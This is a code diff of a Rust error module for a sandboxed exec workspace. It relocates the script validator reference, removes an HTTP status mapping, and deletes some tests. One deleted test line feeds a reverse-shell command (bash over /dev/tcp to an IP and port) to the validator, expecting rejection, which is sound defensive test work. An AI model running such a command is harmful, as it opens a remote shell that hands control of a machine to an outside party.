@@ -24,7 +24,8 @@
 //! - [`Origin::Caller`]: set by [`Error::invalid_input`], which the constructors in this crate
 //!   that validate what a request carries use, before any backend is involved: IDs (`ids`),
 //!   sandbox paths and the workspace's write rules (`path`, `policy::workspace`), exec specs with
-//!   their env names and timeouts (`exec`, `sandbox`), and the script validator (`policy`).
+//!   their env names and timeouts (`exec`, `sandbox`); the script validator in
+//!   `sandbox-session::policy` uses it too.
 //!   Validation of what was *not* caller input (configuration, stored bindings, timestamps) uses
 //!   [`Error::invalid_request`] and does not say Caller: the layer that read it knows where it
 //!   came from. (A provider that parses its own answers with these constructors, a container ID
@@ -147,21 +148,6 @@ impl ErrorKind {
             429 | 507 => ErrorKind::Capacity,
             500..=599 => ErrorKind::Unavailable,
             _ => ErrorKind::Internal,
-        }
-    }
-
-    /// The HTTP status this workspace's own API answers with for the kind.
-    pub fn http_status(self) -> u16 {
-        match self {
-            ErrorKind::NotFound | ErrorKind::Terminal => 404,
-            ErrorKind::Authentication => 401,
-            ErrorKind::InvalidRequest => 400,
-            ErrorKind::Unsupported => 501,
-            ErrorKind::Conflict => 409,
-            ErrorKind::Capacity => 429,
-            ErrorKind::Timeout => 504,
-            ErrorKind::Unavailable => 503,
-            ErrorKind::Internal => 500,
         }
     }
 }
@@ -767,10 +753,6 @@ mod tests {
             spec(r#"{"command":"echo","shell":true,"args":["x"]}"#),
             spec(r#"{"command":"env","env":{"A-B":"1"}}"#),
             ExecTimeout::new(std::time::Duration::ZERO).unwrap_err(),
-            crate::policy::validator::ScriptValidator::new()
-                .validate_script("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
-                .into_result()
-                .unwrap_err(),
             crate::policy::workspace::WorkspaceLayout::standard()
                 .check_model_write(&crate::path::SandboxPath::new("/etc").unwrap())
                 .unwrap_err(),
@@ -842,7 +824,6 @@ mod tests {
     fn kind_and_code_wire_names() {
         for kind in ErrorKind::ALL {
             assert_eq!(serde_json::to_value(kind).unwrap(), kind.as_str());
-            assert!((400..600).contains(&kind.http_status()));
         }
         assert_eq!(ErrorCode::SandboxPaused.as_str(), "session_sandbox_paused");
         assert_eq!(
